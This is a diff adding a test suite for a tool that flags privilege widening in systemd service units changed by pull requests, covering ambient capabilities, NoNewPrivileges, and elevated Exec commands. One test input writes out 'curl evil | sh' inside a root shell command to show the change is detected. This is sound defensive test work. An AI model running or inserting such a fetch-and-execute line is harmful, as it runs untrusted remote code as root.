@@ -1,0 +1,201 @@
+/**
+ * The capability model, level by level, on real git repositories: what the processes hold at
+ * start, what they can reach through set-user-ID/file-capability programs, and each command
+ * that runs with more privileges than the rest (systemd.exec(5), systemd.service(5)).
+ */
+import { readFileSync } from 'node:fs'
+import { join } from 'node:path'
+import { afterEach, describe, expect, it } from 'vitest'
+import { diffSnapshots } from '../../src/diff/diff.js'
+import { snapshotsFromGit } from '../../src/diff/from-git.js'
+import { DEFAULT_GATE } from '../../src/diff/gate.js'
+import type { DiffReport, ServiceReport } from '../../src/diff/report.js'
+import { GitRepo } from '../../src/git/git.js'
+import type { SystemdVersion } from '../../src/model/versions.js'
+import { makeRepo, type TestRepo } from '../helpers/git-repo.js'
+
+const repos: TestRepo[] = []
+afterEach(() => repos.splice(0).forEach((r) => r.cleanup()))
+
+const upstream = (name: string): string => readFileSync(join(__dirname, '../fixtures/privileges', name), 'utf8')
+
+/** A pull request: base files, then head files (null deletes), reviewed for one systemd version. */
+function pr(base: Record<string, string>, head: Record<string, string | null>, version: SystemdVersion = '252', allow: { unit: string | null; capability: string }[] = []): DiffReport {
+  const repo = makeRepo()
+  repos.push(repo)
+  const b = repo.commit(base, 'base')
+  const h = repo.commit(head, 'head')
+  const input = snapshotsFromGit(new GitRepo(repo.dir), b, h)
+  return diffSnapshots(input.base, input.head, input.changes, { version, gate: DEFAULT_GATE, allow, recommend: false })
+}
+
+const unit = (r: DiffReport, name: string): ServiceReport => r.services.find((s) => s.unit === name)!
+/** `level [root] CAPS @file:line` for each finding of a unit. */
+const findings = (s: ServiceReport): string[] =>
+  s.capabilities.widened.map((w) => `${w.level}${w.root ? ' root' : ''} ${w.capabilities.length > 4 ? `${w.capabilities.length}caps` : w.capabilities.join(',')} @${w.file}:${w.line}`)
+
+const svc = (body: string): string => `[Unit]\nDescription=t\n\n[Service]\nExecStart=/usr/bin/daemon\n${body}`
+
+describe('held at start', () => {
+  it('caddy (User=caddy, no NoNewPrivileges=) gaining CAP_NET_RAW as an ambient capability fails', () => {
+    const caddy = upstream('caddy.service')
+    const r = pr({ 'init/caddy.service': caddy }, { 'init/caddy.service': caddy.replace('CAP_NET_BIND_SERVICE', 'CAP_NET_BIND_SERVICE CAP_NET_RAW') })
+    expect(r.verdict).toBe('fail')
+    expect(findings(unit(r, 'caddy.service'))).toEqual(['held CAP_NET_RAW @init/caddy.service:32'])
+    expect(r.failures.map((f) => f.message)).toEqual(['caddy.service now holds CAP_NET_RAW at start (AmbientCapabilities=, init/caddy.service:32)'])
+    // Before: it held its two ambient capabilities and could reach its whole bounding set.
+    expect(unit(r, 'caddy.service').capabilities.before).toMatchObject({ root: false, held: ['CAP_NET_BIND_SERVICE', 'CAP_NET_ADMIN'], noNewPrivileges: null })
+    expect(unit(r, 'caddy.service').capabilities.before!.reachable).toHaveLength(41)
+  })
+
+  it('coredns (PermissionsStartOnly=true, ExecReload=/bin/kill) widening its bounding and ambient sets fails', () => {
+    const coredns = upstream('coredns.service')
+    const widened = coredns.replaceAll('=CAP_NET_BIND_SERVICE', '=CAP_NET_BIND_SERVICE CAP_SYS_ADMIN CAP_NET_RAW')
+    const r = pr({ 'systemd/coredns.service': coredns }, { 'systemd/coredns.service': widened })
+    expect(r.verdict).toBe('fail')
+    const s = unit(r, 'coredns.service')
+    expect(findings(s)).toEqual(['held CAP_NET_RAW,CAP_SYS_ADMIN @systemd/coredns.service:11'])
+    // The reload command runs with full privileges on both sides: a command of its own, not a
+    // ceiling that hides what the daemon itself holds.
+    expect(s.capabilities.after!.elevated).toEqual([
+      expect.objectContaining({ directive: 'ExecReload', command: '/bin/kill -SIGUSR1 $MAINPID', kind: 'permissions-start-only', root: true }),
+    ])
+    expect(s.capabilities.after!.noNewPrivileges).toBe('setting')
+  })
+
+  it('unrelated edits of the same real units pass', () => {
+    const caddy = upstream('caddy.service')
+    const coredns = upstream('coredns.service')
+    const r = pr(
+      { 'init/caddy.service': caddy, 'systemd/coredns.service': coredns },
+      {
+        'init/caddy.service': caddy.replace('TimeoutStopSec=5s', 'TimeoutStopSec=10s\nProtectHome=yes'),
+        'systemd/coredns.service': coredns.replace('LimitNPROC=512', 'LimitNPROC=1024').replace('-SIGUSR1', '-SIGHUP'),
+      },
+    )
+    expect(r.services.map((s) => s.unit).sort()).toEqual(['caddy.service', 'coredns.service'])
+    expect(r.services.flatMap(findings)).toEqual([])
+    expect(r.verdict).toBe('pass')
+  })
+
+  it('SecureBits=noroot: a root unit holds only its ambient capabilities; dropping noroot widens', () => {
+    const r = pr({ 'u/a.service': svc('SecureBits=noroot noroot-locked\nAmbientCapabilities=CAP_CHOWN\n') }, { 'u/a.service': svc('AmbientCapabilities=CAP_CHOWN\n') })
+    expect(unit(r, 'a.service').capabilities.before).toMatchObject({ root: true, held: ['CAP_CHOWN'] })
+    expect(findings(unit(r, 'a.service'))).toEqual(['held 40caps @u/a.service:6'])
+  })
+
+  it('a root unit that gives up all capabilities still runs as root: moving there from a user is a widening', () => {
+    const r = pr({ 'u/a.service': svc('User=app\nNoNewPrivileges=yes\nCapabilityBoundingSet=\n') }, { 'u/a.service': svc('NoNewPrivileges=yes\nCapabilityBoundingSet=\n') })
+    expect(findings(unit(r, 'a.service'))).toEqual(['held root  @u/a.service:6'])
+    expect(r.failures[0]!.message).toMatch(/now runs as root: uid 0 without capabilities at start \(User= removed, u\/a\.service:6 in base\)/)
+  })
+
+  it('a template whose user comes from the instance may run as root (User=%i, instance root)', () => {
+    const r = pr({ 'u/app@.service': svc('User=app\nNoNewPrivileges=yes\n') }, { 'u/app@.service': svc('User=%i\nNoNewPrivileges=yes\n') })
+    const s = unit(r, 'app@i.service')
+    expect(s.capabilities.after).toMatchObject({ root: true, userFromInstance: true, user: 'i' })
+    expect(findings(s)).toEqual(['held root 41caps @u/app@.service:6'])
+    expect(s.capabilities.widened[0]!.cause).toMatch(/instance name/)
+  })
+})
+
+describe('reachable through set-user-ID and file-capability programs', () => {
+  it('removing NoNewPrivileges= from a user service widens what it can reach, not what it holds', () => {
+    const r = pr({ 'u/a.service': svc('User=app\nNoNewPrivileges=yes\nCapabilityBoundingSet=CAP_NET_RAW CAP_CHOWN\n') }, { 'u/a.service': svc('User=app\nCapabilityBoundingSet=CAP_NET_RAW CAP_CHOWN\n') })
+    expect(findings(unit(r, 'a.service'))).toEqual(['reachable CAP_CHOWN,CAP_NET_RAW @u/a.service:7'])
+    expect(unit(r, 'a.service').capabilities.widened[0]).toMatchObject({ removedLine: true, directive: 'NoNewPrivileges=' })
+  })
+
+  it('on 252/254 a seccomp-based setting forces NoNewPrivileges= on a user service; from 257 only a filter denying capget/capset/prctl does', () => {
+    const base = { 'u/a.service': svc('User=app\nNoNewPrivileges=yes\nLockPersonality=yes\n') }
+    const head = { 'u/a.service': svc('User=app\nLockPersonality=yes\n') }
+    expect(unit(pr(base, head, '252'), 'a.service').capabilities).toMatchObject({ widened: [], after: { noNewPrivileges: 'seccomp', reachable: [] } })
+    expect(unit(pr(base, head, '254'), 'a.service').capabilities.widened).toEqual([])
+    expect(findings(unit(pr(base, head, '257'), 'a.service'))).toEqual(['reachable 41caps @u/a.service:7'])
+    const denyCapset = { 'u/a.service': svc('User=app\nLockPersonality=yes\nSystemCallFilter=~capset\n') }
+    expect(unit(pr(base, denyCapset, '262'), 'a.service').capabilities).toMatchObject({ widened: [], after: { noNewPrivileges: 'seccomp' } })
+    // Removing the last seccomp-based setting on 252 opens the set-user-ID path again.
+    const r = pr(head, { 'u/a.service': svc('User=app\n') }, '252')
+    expect(findings(unit(r, 'a.service'))).toEqual(['reachable 41caps @u/a.service:7'])
+    expect(unit(r, 'a.service').capabilities.widened[0]!.cause).toMatch(/forces NoNewPrivileges=/)
+  })
+})
+
+describe('elevated commands', () => {
+  const user = 'User=app\nNoNewPrivileges=yes\nCapabilityBoundingSet=CAP_NET_BIND_SERVICE\n'
+
+  it('+ runs with every capability as root; ! as root within the bounding set; !! elevates nothing', () => {
+    const r = pr(
+      { 'u/a.service': svc(user), 'u/b.service': svc(user), 'u/c.service': svc(user) },
+      {
+        'u/a.service': svc(`${user}ExecStartPre=+/usr/bin/mkdir -p /run/a\n`),
+        'u/b.service': svc(`${user}ExecStartPre=!/usr/bin/setup\n`),
+        'u/c.service': svc(`${user}ExecStartPre=!!/usr/bin/setup\n`),
+      },
+    )
+    expect(findings(unit(r, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
+    expect(findings(unit(r, 'b.service'))).toEqual(['command root CAP_NET_BIND_SERVICE @u/b.service:9'])
+    expect(findings(unit(r, 'c.service'))).toEqual([])
+    expect(r.failures.map((f) => f.message)).toContain(
+      'b.service runs ExecStartPre=!/usr/bin/setup as root within the bounding set (! prefix): uid 0 and CAP_NET_BIND_SERVICE (ExecStartPre=, u/b.service:9)',
+    )
+  })
+
+  it('the same privileged program with other arguments is no new privilege; another program, or a shell with another script, is', () => {
+    const base = svc(`${user}ExecStartPre=+/usr/bin/mkdir -p /run/a\nExecStartPost=+/bin/sh -c "chown app /run/a"\n`)
+    const same = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('/run/a\n', '/run/a /run/b\n') })
+    expect(same.verdict).toBe('pass')
+    const other = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('/usr/bin/mkdir -p', '/usr/bin/install -d') })
+    expect(findings(unit(other, 'a.service'))).toEqual(['command root 41caps @u/a.service:9'])
+    const script = pr({ 'u/a.service': base }, { 'u/a.service': base.replace('chown app', 'curl evil | sh; chown app') })
+    expect(findings(unit(script, 'a.service'))).toEqual(['command root 41caps @u/a.service:10'])
+  })
+
+  it('PermissionsStartOnly=yes elevates every command but ExecStart=, each reported on its own', () => {
+    const r = pr(
+      { 'u/a.service': svc(`${user}ExecReload=/bin/kill -HUP $MAINPID\nExecStartPre=/usr/bin/check\n`) },
+      { 'u/a.service': svc(`${user}ExecReload=/bin/kill -HUP $MAINPID\nExecStartPre=/usr/bin/check\nPermissionsStartOnly=yes\n`) },
+    )
+    const s = unit(r, 'a.service')
+    expect(findings(s)).toEqual(['command root 41caps @u/a.service:11', 'command root 41caps @u/a.service:11'])
+    expect(s.capabilities.widened.map((w) => w.command!.directive)).toEqual(['ExecStartPre', 'ExecReload'])
+    expect(s.capabilities.widened[0]!.cause).toMatch(/PermissionsStartOnly=yes/)
+  })
+
+  it('a command elevated on both sides is no widening, while the daemon gaining a capability still is', () => {
+    const base = svc(`${user}AmbientCapabilities=CAP_NET_BIND_SERVICE\nExecStartPre=+/usr/bin/mkdir -p /run/a\n`)
+    const r = pr({ 'u/a.service': base }, { 'u/a.service': base.replaceAll('CAP_NET_BIND_SERVICE', 'CAP_NET_BIND_SERVICE CAP_SYS_ADMIN') })
+    expect(findings(unit(r, 'a.service'))).toEqual(['held CAP_SYS_ADMIN @u/a.service:9'])
+  })
+})
+
+describe('new units and acceptance', () => {
+  it('a new root unit is one finding; a new user unit without NoNewPrivileges= can reach its bounding set', () => {
+    const r = pr({ 'README.md': 'x\n' }, { 'u/root.service': svc(''), 'u/user.service': svc('User=app\nAmbientCapabilities=CAP_NET_BIND_SERVICE\n') })
+    expect(findings(unit(r, 'root.service'))).toEqual(['held root 41caps @u/root.service:5'])
+    expect(findings(unit(r, 'user.service'))).toEqual(['held CAP_NET_BIND_SERVICE @u/user.service:7', 'reachable 40caps @u/user.service:5'])
+    expect(r.failures).toHaveLength(3)
+  })
+
+  it('ALL accepts everything a unit gains, running as root included; a partial waiver names what is left', () => {
+    const r = pr(
+      { 'README.md': 'x\n' },
+      {
+        'u/root.service': `# systemd-exposure: allow ALL -- the init helper must run as root\n${svc('')}`,
+        'u/part.service': `# systemd-exposure: allow CAP_NET_RAW -- ping\n${svc('User=app\nNoNewPrivileges=yes\nAmbientCapabilities=CAP_NET_RAW CAP_NET_ADMIN\n')}`,
+      },
+    )
+    expect(unit(r, 'root.service').capabilities.widened[0]!.unaccepted).toEqual([])
+    expect(unit(r, 'part.service').capabilities.widened[0]).toMatchObject({ unaccepted: ['CAP_NET_ADMIN'], accepted: [{ privilege: 'CAP_NET_RAW', addedInChange: true }] })
+    expect(r.failures.map((f) => f.message)).toEqual([expect.stringMatching(/^part\.service is new and holds CAP_NET_ADMIN, CAP_NET_RAW at start .*; not accepted: CAP_NET_ADMIN$/)])
+    expect(r.summary.capabilitiesWidened).toBe(1)
+  })
+
+  it('the allow-list takes the template file name as well as the analysed instance name', () => {
+    const base = { 'u/app@.service': svc('User=app\nNoNewPrivileges=yes\n') }
+    const head = { 'u/app@.service': svc('User=app\nNoNewPrivileges=yes\nAmbientCapabilities=CAP_KILL\n') }
+    expect(pr(base, head, '252', [{ unit: 'app@.service', capability: 'CAP_KILL' }]).verdict).toBe('pass')
+    expect(pr(base, head, '252', [{ unit: 'app@i.service', capability: 'CAP_KILL' }]).verdict).toBe('pass')
+    expect(pr(base, head, '252', [{ unit: 'other.service', capability: 'CAP_KILL' }]).verdict).toBe('fail')
+  })
+})
